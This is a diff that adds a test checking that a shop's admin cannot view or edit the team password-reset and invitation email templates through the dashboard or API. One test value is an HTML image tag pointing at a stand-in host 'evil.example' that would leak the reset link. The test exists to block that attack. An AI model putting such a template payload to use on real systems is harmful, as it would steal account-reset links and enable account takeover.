@@ -178,3 +178,26 @@ async def test_signing_in_returns_to_the_dashboard_page_asked_for_and_nowhere_el
             data={"csrf_token": token, "email": merchant.email, "password": PASSWORD},
         )
         assert answer.status_code == 303 and answer.headers["location"] == landed, wanted
+
+
+async def test_the_teams_own_emails_are_never_a_merchants_version(
+    server: Server, mailbox: Mailbox, merchant: Merchant
+) -> None:
+    """An admin who could edit the reset e-mail could send the owner's reset link to themselves."""
+    boss = await owner(server, merchant)
+    admin = await invite(server, mailbox, boss, "ada@publisher.example.com", "admin")
+    listed = (await admin.get("/dashboard/developers/emails")).text
+    assert "purchase_receipt" in listed and "team_password_reset" not in listed and "team_invitation" not in listed
+    for name in ("team_password_reset", "team_invitation"):
+        assert (await admin.get(f"/dashboard/developers/emails/{name}")).status_code == 404
+        edited = await admin.post(
+            f"/dashboard/developers/emails/{name}",
+            {"subject": "Reset", "html": "<img src='https://evil.example/?{{ link }}'>", "text": "{{ link }}"},
+        )
+        assert edited.status_code == 404
+        put = await server.http.put(
+            f"/v2/email-templates/{name}",
+            headers=merchant.auth,
+            data={"subject": "x", "html": "{{ link }}", "text": "{{ link }}"},
+        )
+        assert put.status_code == 404, put.text
